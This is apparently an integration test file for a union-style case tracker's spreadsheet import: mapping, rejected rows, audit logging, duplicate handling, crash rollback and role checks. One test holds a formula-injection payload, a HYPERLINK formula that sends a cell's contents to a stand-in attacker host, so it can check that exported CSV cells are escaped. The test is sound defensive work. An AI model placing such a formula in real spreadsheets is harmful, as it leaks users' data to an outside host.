import crypto from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { spawn } from 'node:child_process';
import { parse } from 'csv-parse/sync';
import { closeDb, db } from '@/lib/db/client';
import { runImport } from '@/lib/import/run-import';
import { previewRows } from '@/lib/import/preview-rows';
import { rejectedRowsCsv } from '@/lib/import/rejected-csv';
import { runImportSchema, type RunImportInput } from '@/lib/import/schemas';
import { suggestMapping } from '@/lib/import/fields';
import { readSheet } from '@/lib/import/read-sheet';
import { syncDeadlines } from '@/lib/deadlines/sync-deadlines';
import { ctx, makeBranch, makeCase, makeUser, type TestUser } from '../../helpers/factories';

// The spreadsheet import against a real database (issue 12, point 4). Each test makes its own people, with
// a tag in their names and membership numbers, and counts only those (CI shares one database between files).
const HEADINGS = [
  'Name',
  'Membership number',
  'Email',
  'Branch',
  'Roles',
  'Sanction',
  'Date suspended',
  'Imposed by',
  'Reason',
  'Consent',
  'Consent date',
  'Phone',
];
const mapping = suggestMapping(HEADINGS);

let coordinator: TestUser;
let branchName: string;

beforeAll(async () => {
  coordinator = await makeUser('COORDINATOR');
  const { branch } = await makeBranch();
  branchName = branch.name;
});

const tag = () => crypto.randomBytes(4).toString('hex');
const DATES = ['Dec 2020', '2017', '03/04/2021', '12 May 2022', '2021-06-30'];

function row(t: string, i: number, over: Partial<Record<(typeof HEADINGS)[number], string>> = {}): string[] {
  const v: Record<string, string> = {
    Name: `Imported ${t} ${i}`,
    'Membership number': `M${t}${i}`,
    Email: `imp-${t}-${i}@example.test`,
    Branch: branchName,
    Roles: i % 2 ? 'Chair' : 'Secretary; Councillor',
    Sanction: 'Administrative suspension',
    'Date suspended': DATES[i % DATES.length]!,
    'Imposed by': 'NEC',
    Reason: 'Allowed a debate',
    Consent: 'In writing',
    'Consent date': '01/02/2025',
    Phone: '',
    ...over,
  };
  return HEADINGS.map((h) => v[h]!);
}

const input = (rows: string[][], extra: Partial<RunImportInput> = {}) =>
  runImportSchema.parse({
    headings: HEADINGS,
    mapping,
    rows: rows.map((cells, i) => ({ line: i + 2, cells })),
    duplicates: 'skip',
    ...extra,
  });

test('the headings of a typical sheet map themselves', () => {
  expect(mapping).toEqual([
    'fullName',
    'membershipNumber',
    'email',
    'branch',
    'rolesHeld',
    'sanctionType',
    'imposedOn',
    'imposedBy',
    'reasonCategory',
    'consentMethod',
    'consentGivenOn',
    'phone',
  ]);
});

test('200 rows with 20 bad ones: 180 imported as staff-entered cases, 20 returned with their reasons', async () => {
  const t = tag();
  const bad: Record<number, Partial<Record<string, string>>> = {};
  for (let k = 0; k < 5; k++) bad[k * 40 + 3] = { Name: '' };
  for (let k = 0; k < 5; k++) bad[k * 40 + 11] = { 'Date suspended': 'sometime in spring' };
  for (let k = 0; k < 5; k++) bad[k * 40 + 19] = { Branch: `No Such Branch ${t}` };
  for (let k = 0; k < 5; k++) bad[k * 40 + 27] = { Sanction: 'Told off' };
  const rows = Array.from({ length: 200 }, (_, i) => row(t, i, bad[i]));
  const progress: number[] = [];
  const result = await runImport(coordinator, input(rows), ctx, (done) => {
    progress.push(done);
  });

  expect(result.imported).toHaveLength(180);
  expect(result.rejected).toHaveLength(20);
  expect(progress.at(-1)).toBe(180);
  const reasons = new Map(result.rejected.map((r) => [r.line - 2, r.reason]));
  for (const [i, over] of Object.entries(bad)) {
    const reason = reasons.get(Number(i));
    if ('Name' in over) expect(reason).toMatch(/Full name: The name is missing/);
    if ('Date suspended' in over) expect(reason).toMatch(/“sometime in spring” cannot be read/);
    if ('Branch' in over) expect(reason).toMatch(/Unknown branch “No Such Branch/);
    if ('Sanction' in over) expect(reason).toMatch(/“Told off” is not a sanction type we know/);
  }

  const cases = await db.case.findMany({
    where: { person: { membershipNumber: { startsWith: `M${t}` } } },
    select: {
      id: true,
      consentMethod: true,
      consentGivenAt: true,
      consentTakenById: true,
      person: { select: { fullName: true, rolesHeld: true, branch: { select: { name: true } } } },
      sanctions: { select: { type: true, imposedOn: true, imposedPrecision: true, imposedBy: true } },
    },
  });
  expect(cases).toHaveLength(180);
  // Consent as the sheet states it, taken by the coordinator; the partial dates as typed.
  expect(cases.every((c) => c.consentMethod === 'IN_WRITING' && c.consentTakenById === coordinator.id)).toBe(true);
  expect(cases.every((c) => c.consentGivenAt?.toISOString().startsWith('2025-02-01'))).toBe(true);
  const byName = new Map(cases.map((c) => [c.person.fullName, c]));
  expect(byName.get(`Imported ${t} 0`)!.sanctions[0]).toMatchObject({
    type: 'ADMINISTRATIVE_SUSPENSION',
    imposedBy: 'NEC_DISPUTES_PANEL',
    imposedPrecision: 'MONTH',
    imposedOn: new Date('2020-12-01'),
  });
  expect(byName.get(`Imported ${t} 1`)!.sanctions[0]).toMatchObject({ imposedPrecision: 'YEAR' });
  expect(byName.get(`Imported ${t} 2`)!.sanctions[0]).toMatchObject({
    imposedPrecision: 'DAY',
    imposedOn: new Date('2021-04-03'), // UK order: 3 April
  });
  expect(byName.get(`Imported ${t} 2`)!.person.rolesHeld).toEqual(['Secretary', 'Councillor']);
  expect(byName.get(`Imported ${t} 2`)!.person.branch?.name).toBe(branchName);

  // Audited as an import: one row per case (beside the case's own rows) and one for the whole import.
  const perCase = await db.auditLog.findMany({ where: { action: 'case.import', entityId: result.importId } });
  expect(perCase).toHaveLength(180);
  expect(new Set(perCase.map((a) => a.caseId))).toEqual(new Set(cases.map((c) => c.id)));
  expect(await db.auditLog.count({ where: { action: 'import.run', entityId: result.importId } })).toBe(1);
  expect(await db.auditLog.count({ where: { action: 'case.create', caseId: { in: cases.map((c) => c.id) } } })).toBe(
    180,
  );

  // The rejected rows come back as a CSV with the sheet's columns and a reason.
  const csv = rejectedRowsCsv(
    HEADINGS,
    result.rejected.map((r) => ({ ...r })),
  );
  const back = readSheet(new TextEncoder().encode(csv));
  expect(back.headings).toEqual([...HEADINGS, 'reason']);
  expect(back.rows).toHaveLength(20);
  expect(back.rows.every((r) => r.cells.at(-1)!.length > 10)).toBe(true);
});

test('an imported case has the rows of a case opened by hand: its history, texts for search, audit rows in order, and its appeal deadline as syncDeadlines computes it', async () => {
  const t = tag();
  const rows = [
    row(t, 0, { Sanction: 'Expulsion', 'Date suspended': '03/04/2021', Phone: '01632 960001' }),
    row(t, 1, { 'Date suspended': '03/04/2021' }),
  ];
  const result = await runImport(coordinator, input(rows), ctx);
  expect(result.imported).toHaveLength(2);
  const [expelled, suspended] = await Promise.all(
    result.imported.map((r) =>
      db.case.findFirstOrThrow({
        where: { reference: r.reference },
        include: { person: true, stageChanges: true, sanctions: true, events: true, deadlines: true },
      }),
    ),
  );
  expect(expelled!).toMatchObject({
    stage: 'INTAKE',
    appealStatus: 'NOT_STARTED',
    wants: ['REINSTATEMENT'],
    version: 1,
    exhibitCounter: 0,
    createdById: coordinator.id,
  });
  expect(expelled!.updatedAt).toEqual(expelled!.createdAt);
  expect(expelled!.person).toMatchObject({
    fullName: `Imported ${t} 0`,
    phone: '01632 960001',
    rolesHeld: ['Secretary', 'Councillor'],
    version: 1,
    searchName: `imported ${t} 0`,
  });
  expect(expelled!.stageChanges).toMatchObject([
    { fromStage: null, toStage: 'INTAKE', fromOutcome: null, toOutcome: null, reason: 'Case opened' },
  ]);
  expect(expelled!.sanctions).toMatchObject([
    { type: 'EXPULSION', imposedOn: new Date('2021-04-03'), imposedPrecision: 'DAY', outcome: 'PENDING', version: 1 },
  ]);
  expect(expelled!.events).toMatchObject([
    { type: 'DECISION', occurredOn: new Date('2021-04-03'), visibility: 'SHARED', privileged: false, version: 1 },
  ]);
  expect(suspended!.events).toMatchObject([{ type: 'NOTICE_OF_SUSPENSION' }]);
  // Kept by the search triggers: the reference and the member's name and number are words of the case.
  const [words] = await db.$queryRaw<{ found: boolean }[]>`
    SELECT "searchVector" @@ plainto_tsquery('reinstate_search', ${`M${t}0`}) AS found FROM "Case" WHERE "id" = ${expelled!.id}`;
  expect(words!.found).toBe(true);

  // The decision starts an appeal window (a suspension starts none), exactly as syncDeadlines computes it alone:
  // syncing the case again changes nothing.
  expect(suspended!.deadlines).toHaveLength(0);
  expect(expelled!.deadlines).toMatchObject([
    { kind: 'APPEAL_WINDOW', eventId: expelled!.events[0]!.id, metOn: null, closedReason: null },
  ]);
  await db.$transaction((tx) => syncDeadlines(tx, expelled!.id));
  expect(await db.deadline.findMany({ where: { caseId: expelled!.id } })).toEqual(expelled!.deadlines);

  // The case's Activity reads in the order it happened (rows of one statement share their time).
  const activity = await db.auditLog.findMany({
    where: { caseId: expelled!.id },
    orderBy: [{ createdAt: 'asc' }, { id: 'asc' }],
  });
  expect(activity.map((a) => [a.action, a.memberVisible])).toEqual([
    ['case.create', true],
    ['sanction.create', true],
    ['event.create', true],
    ['case.import', true],
  ]);
  expect(activity[0]!.fields).toEqual(['wants', 'summary', 'consentGivenAt', 'consentMethod', 'consentTakenById']);
  expect(activity.every((a) => a.actorId === coordinator.id && a.userAgent === ctx.userAgent)).toBe(true);
  const saved = await db.auditLog.findFirstOrThrow({ where: { action: 'person.save', entityId: expelled!.personId } });
  expect(saved).toMatchObject({ caseId: null, memberVisible: false });
  expect(saved.fields).toEqual(['fullName', 'membershipNumber', 'email', 'phone', 'branchId', 'regionId', 'rolesHeld']);
});

test('the preview names every problem of a row and the member it matches, without ids', async () => {
  const t = tag();
  const existing = await makeCase({ member: null });
  await db.person.update({ where: { id: existing.person.id }, data: { membershipNumber: `M${t}X` } });
  const preview = await previewRows(coordinator, {
    mapping,
    rows: [
      { line: 2, cells: row(t, 1, { Name: '', 'Date suspended': '31/02/2021', Branch: 'Nowhere' }) },
      { line: 3, cells: row(t, 2, { 'Membership number': `m${t}x` }) },
      { line: 4, cells: row(t, 3, { 'Membership number': `M${t}2`, Email: `imp-${t}-2@example.test` }) },
    ],
  });
  expect(preview[0]!.problems.map((p) => p.field).sort()).toEqual(['branch', 'fullName', 'imposedOn']);
  expect(preview[1]).toMatchObject({
    problems: [],
    match: { fullName: existing.person.fullName, by: 'membership number', references: [existing.kase.reference] },
  });
  expect(JSON.stringify(preview)).not.toContain(existing.person.id);
  // The same member twice in one sheet: the later row is named.
  expect(preview[2]!.problems).toEqual(expect.arrayContaining([{ field: 'email', message: 'Same email as row 3' }]));
});

describe('members already on Reinstate (by membership number or email)', () => {
  async function known(t: string) {
    const c = await makeCase({ member: null });
    await db.person.update({
      where: { id: c.person.id },
      data: { membershipNumber: `M${t}K`, email: `known-${t}@example.test`, phone: null, fullName: `Known ${t}` },
    });
    return c;
  }
  const matchRows = (t: string) => [
    row(t, 1, { Name: `Sheet Name ${t}`, 'Membership number': `M${t}K`, Email: '', Phone: '07700 900123' }),
    row(t, 2),
  ];

  test('skip: the matched row comes back, the person is untouched', async () => {
    const t = tag();
    const c = await known(t);
    const result = await runImport(coordinator, input(matchRows(t), { duplicates: 'skip' }), ctx);
    expect(result.imported.map((r) => r.line)).toEqual([3]);
    expect(result.rejected).toEqual([
      expect.objectContaining({ line: 2, reason: expect.stringMatching(/Already on Reinstate as Known .*: skipped/) }),
    ]);
    expect(await db.case.count({ where: { personId: c.person.id } })).toBe(1);
    expect(await db.person.findUniqueOrThrow({ where: { id: c.person.id } })).toMatchObject({ phone: null });
  });

  test('update empty fields: a case is added to the same person, only empty details are filled', async () => {
    const t = tag();
    const c = await known(t);
    const result = await runImport(coordinator, input(matchRows(t), { duplicates: 'update' }), ctx);
    expect(result.imported.map((r) => r.line)).toEqual([2, 3]);
    expect(await db.case.count({ where: { personId: c.person.id } })).toBe(2);
    const p = await db.person.findUniqueOrThrow({ where: { id: c.person.id } });
    expect(p).toMatchObject({ fullName: `Known ${t}`, phone: '07700 900123', branchId: expect.any(String) });
    // The change shows on both of the person's cases.
    const updates = await db.auditLog.findMany({ where: { action: 'person.update', entityId: c.person.id } });
    expect(updates.length).toBe(2);
    expect(updates[0]!.fields).toEqual(expect.arrayContaining(['phone', 'branchId']));
    expect(updates[0]!.fields).not.toContain('fullName');
  });

  test('review one by one: each matched row as chosen, a row left unchosen is skipped', async () => {
    const t = tag();
    const a = await known(t);
    const u = tag();
    const b = await known(u);
    const v = tag();
    await known(v);
    const rows = [
      row(t, 1, { 'Membership number': '', Email: `KNOWN-${t}@example.test` }),
      row(u, 1, { 'Membership number': `M${u}K`, Email: '' }),
      row(v, 1, { 'Membership number': `M${v}K`, Email: '' }),
    ];
    const result = await runImport(
      coordinator,
      input(rows, { duplicates: 'review', decisions: { '2': 'skip', '3': 'update' } }),
      ctx,
    );
    expect(result.imported.map((r) => r.line)).toEqual([3]);
    expect(result.rejected.map((r) => [r.line, /skipped/.test(r.reason)])).toEqual([
      [2, true],
      [4, true],
    ]);
    expect(result.rejected[1]!.reason).toMatch(/no choice was made/);
    expect(await db.case.count({ where: { personId: a.person.id } })).toBe(1);
    expect(await db.case.count({ where: { personId: b.person.id } })).toBe(2);
  });
});

test('a crash mid-import leaves nothing: no person, case, sanction or audit row of the sheet', async () => {
  const t = tag();
  const rows = Array.from({ length: 100 }, (_, i) => row(t, i));
  const before = await db.auditLog.count({ where: { actorId: coordinator.id } });
  await expect(
    runImport(coordinator, input(rows), ctx, (done) => {
      if (done > 0 && done < 100) throw new Error(`Simulated crash after ${done} of 100 rows`);
    }),
  ).rejects.toThrow('Simulated crash');
  expect(await db.person.count({ where: { membershipNumber: { startsWith: `M${t}` } } })).toBe(0);
  expect(await db.case.count({ where: { person: { membershipNumber: { startsWith: `M${t}` } } } })).toBe(0);
  expect(await db.auditLog.count({ where: { actorId: coordinator.id } })).toBe(before);
  // And the same sheet goes in whole afterwards.
  const again = await runImport(coordinator, input(rows), ctx);
  expect(again.imported).toHaveLength(100);
});

test('a process killed (SIGKILL) mid-import leaves nothing, the database opens cleanly, and the sheet then goes in whole', async () => {
  const t = tag();
  const rows = Array.from({ length: 300 }, (_, i) => row(t, i));
  const before = await db.auditLog.count({ where: { actorId: coordinator.id } });
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'import-kill-'));
  const inputFile = path.join(dir, 'input.json');
  fs.writeFileSync(inputFile, JSON.stringify(input(rows)));
  await closeDb(); // PGlite: one process per data directory; the child opens it
  const root = path.resolve(__dirname, '../../..');
  const child = spawn(
    process.execPath,
    // One process (no tsx launcher in between), so the kill lands on the one holding the transaction.
    ['--import', 'tsx', path.join(root, '__tests__/helpers/import-child.ts'), inputFile, coordinator.id, '100'],
    { cwd: root, env: process.env, stdio: ['ignore', 'pipe', 'pipe'] },
  );
  let out = '';
  let err = '';
  child.stderr.on('data', (d: Buffer) => (err += d.toString()));
  const exited = new Promise<NodeJS.Signals | number | null>((resolve) =>
    child.on('exit', (code, signal) => resolve(signal ?? code)),
  );
  // Killed as soon as 100 rows are written inside the import's transaction (2 batches of 50), before it commits.
  await new Promise<void>((resolve, reject) => {
    child.stdout.on('data', (d: Buffer) => {
      out += d.toString();
      if (/^progress (1\d\d|[2-9]\d\d)$/m.test(out)) resolve();
    });
    void exited.then(() => reject(new Error(`The import process ended before the kill:\n${out}\n${err}`)));
  });
  child.kill('SIGKILL');
  expect(await exited).toBe('SIGKILL');
  expect(out).not.toContain('finished');
  fs.rmSync(dir, { recursive: true, force: true });

  // The database opens again (PGlite recovers from its log) and holds nothing of the sheet.
  expect(await db.person.count({ where: { membershipNumber: { startsWith: `M${t}` } } })).toBe(0);
  expect(await db.case.count({ where: { person: { membershipNumber: { startsWith: `M${t}` } } } })).toBe(0);
  expect(await db.auditLog.count({ where: { actorId: coordinator.id } })).toBe(before);
  const again = await runImport(coordinator, input(rows), ctx);
  expect(again.imported).toHaveLength(300);
  expect(await db.case.count({ where: { person: { membershipNumber: { startsWith: `M${t}` } } } })).toBe(300);
}, 180_000);

test('cells that would run as formulas are escaped in the rejected rows, and read back as typed', async () => {
  const t = tag();
  const evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
  const rows = [row(t, 1, { Name: evil, 'Date suspended': 'not a date' }), row(t, 2, { Phone: '+44 7700 900124' })];
  const result = await runImport(coordinator, input(rows), ctx);
  const csv = rejectedRowsCsv(HEADINGS, result.rejected);
  const cells = parse(csv.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
  expect(cells[1]![0]).toBe(`'${evil}`);
  // Sent back after fixing, the ' our CSV added is not part of the name.
  const fixed = runImportSchema.parse({
    headings: HEADINGS,
    mapping,
    rows: [{ line: 2, cells: [...cells[1]!.slice(0, 6), 'Dec 2020', ...cells[1]!.slice(7, 12)] }],
    duplicates: 'skip',
  });
  const second = await runImport(coordinator, fixed, ctx);
  expect(second.imported).toHaveLength(1);
  expect((await db.person.findFirstOrThrow({ where: { membershipNumber: `M${t}1` } })).fullName).toBe(evil);
});

test('only coordinators import: members and caseworkers are told it does not exist', async () => {
  const t = tag();
  for (const role of ['MEMBER', 'CASEWORKER'] as const) {
    const who = await makeUser(role);
    await expect(runImport(who, input([row(t, 1)]), ctx)).rejects.toThrow('Not found');
    await expect(previewRows(who, { mapping, rows: [{ line: 2, cells: row(t, 1) }] })).rejects.toThrow('Not found');
  }
  expect(await db.person.count({ where: { membershipNumber: { startsWith: `M${t}` } } })).toBe(0);
});
